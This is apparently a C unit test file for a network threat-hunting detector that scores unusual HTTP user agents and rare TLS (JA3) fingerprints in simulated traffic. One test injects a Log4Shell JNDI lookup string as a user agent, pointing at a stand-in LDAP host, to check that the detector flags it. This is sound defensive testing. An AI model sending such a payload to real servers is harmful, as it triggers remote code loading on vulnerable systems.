/* Odd user agents, and clients that are rare for more than one reason, are found; what is merely
 * rare, or of a small network, is not. */
#include "hunt/quiet_bed.h"

#define HOST "10.0.0.5"
#define HUNT "client"

static const char browser[] = "Mozilla/5.0 (X11; Linux x86_64) Firefox/118.0";

static void agent(struct quiet_bed *bed, double s, const char *src, const char *dst,
                  const char *host, const char *text)
{
    struct hunt_record record = bed_http(s, (uint64_t)(1000 + s), src, dst, "GET", host);
    record.http.user_agent = str_c(text);
    quiet_put(bed, record);
}

static void ja3(struct quiet_bed *bed, double s, const char *src, const char *dst, const char *name,
                const char *print)
{
    struct hunt_record record = bed_ssl(s, (uint64_t)(5000 + s), src, dst, name);
    record.ssl.ja3 = str_c(print);
    record.ssl.established = true;
    quiet_put(bed, record);
    quiet_put(bed, bed_conn(s, (uint64_t)(5000 + s), src, dst, 443, "ssl"));
}

static void test_attack(void **state)
{
    (void)state;
    struct quiet_bed bed;
    quiet_begin(&bed, NULL);
    agent(&bed, 1, HOST, "192.0.2.1", "www.example.com", "${jndi:ldap://192.0.2.7:389/a}");
    const struct finding *found = quiet_found(&bed, HUNT, 0);
    assert_non_null(found);
    assert_true(found->score >= 0.8);
    assert_true(quiet_says(found, "Log4j"));
    quiet_end(&bed);
}

/* A tool towards a place that nobody else knows, on a machine that browses. */
static void test_tool(void **state)
{
    (void)state;
    for (unsigned kind = 0; kind < 3; kind++) {
        struct quiet_bed bed;
        quiet_begin(&bed, NULL);
        if (kind != 1)
            quiet_neighbours(&bed, 0, 30);
        if (kind != 2)
            agent(&bed, 1, HOST, "198.18.0.2", "news.example.com", browser);
        agent(&bed, 2, HOST, "192.0.2.1", "stage.example.org",
              kind == 2 ? "Mozilla/5.0 (Windows NT 10.0; en-US) WindowsPowerShell/5.1"
                        : "python-requests/2.31.0");
        const struct finding *found = quiet_found(&bed, HUNT, 0);
        if (kind == 0) {
            assert_non_null(found);
            assert_true(found->score >= 0.3 && found->score <= 0.6);
            assert_true(quiet_says(found, "Python, on a machine that else has browsers"));
        } else {
            /* In a network of two nothing is rare; and a server's scripts are its own. */
            assert_null(found);
        }
        quiet_end(&bed);
    }
}

static void test_rare_print(void **state)
{
    (void)state;
    for (unsigned kind = 0; kind < 4; kind++) {
        struct quiet_bed bed;
        quiet_begin(&bed, NULL);
        quiet_neighbours(&bed, 0, kind == 1 ? 2 : 40);
        /* 0: alone, no name, a place of its own. 2: towards a place that all know. 3: by another
         * host too. */
        const char *dst = kind == 2 ? "198.18.0.1" : "192.0.2.44";
        for (unsigned i = 0; i < 10; i++)
            ja3(&bed, 100 + 60 * i, HOST, dst, kind == 2 ? "mail.example.com" : "",
                "a0e9f5d64349fb13191bc781f81f42e1");
        if (kind == 3)
            ja3(&bed, 50, "10.0.0.6", "192.0.2.45", "", "a0e9f5d64349fb13191bc781f81f42e1");
        const struct finding *found = quiet_found(&bed, HUNT, 0);
        assert_int_equal(found != NULL, kind == 0);
        if (found) {
            assert_true(found->score <= 0.6);
            assert_true(quiet_says(found, "this one alone has"));
        }
        quiet_end(&bed);
    }
}

/* Each of a hundred machines has something of its own: nothing of that is told. */
static void test_everybody_is_rare(void **state)
{
    (void)state;
    struct quiet_bed bed;
    quiet_begin(&bed, NULL);
    for (unsigned i = 0; i < 100; i++) {
        char src[32], text[64], print[40];
        (void)snprintf(src, sizeof src, "10.1.0.%u", i + 1);
        (void)snprintf(text, sizeof text, "Vendor-Updater/1.%u", i);
        (void)snprintf(print, sizeof print, "%032x", i + 1);
        agent(&bed, 10 + i, src, "198.18.0.3", "update.vendor.example", text);
        ja3(&bed, 10 + i, src, "198.18.0.4", "api.vendor.example", print);
    }
    assert_null(quiet_found(&bed, HUNT, 0));
    quiet_end(&bed);
}

/* New on a machine that is known for days. */
static void test_new(void **state)
{
    (void)state;
    struct quiet_bed bed;
    quiet_begin(&bed, NULL);
    for (unsigned day = 0; day < 4; day++) {
        quiet_neighbours(&bed, day * 86400.0, 20);
        ja3(&bed, day * 86400.0 + 5, HOST, "198.18.0.1", "mail.example.com",
            "cd08e31494f9531f560d64c695473da9");
    }
    ja3(&bed, 3 * 86400.0 + 500, HOST, "192.0.2.44", "fresh.example.org",
        "a0e9f5d64349fb13191bc781f81f42e1");
    const struct finding *found = quiet_found(&bed, HUNT, 0);
    assert_non_null(found);
    assert_true(quiet_says(found, "new: this machine is known"));
    assert_null(quiet_found(&bed, HUNT, 1));
    quiet_end(&bed);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_attack),     cmocka_unit_test(test_tool),
        cmocka_unit_test(test_rare_print), cmocka_unit_test(test_everybody_is_rare),
        cmocka_unit_test(test_new),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
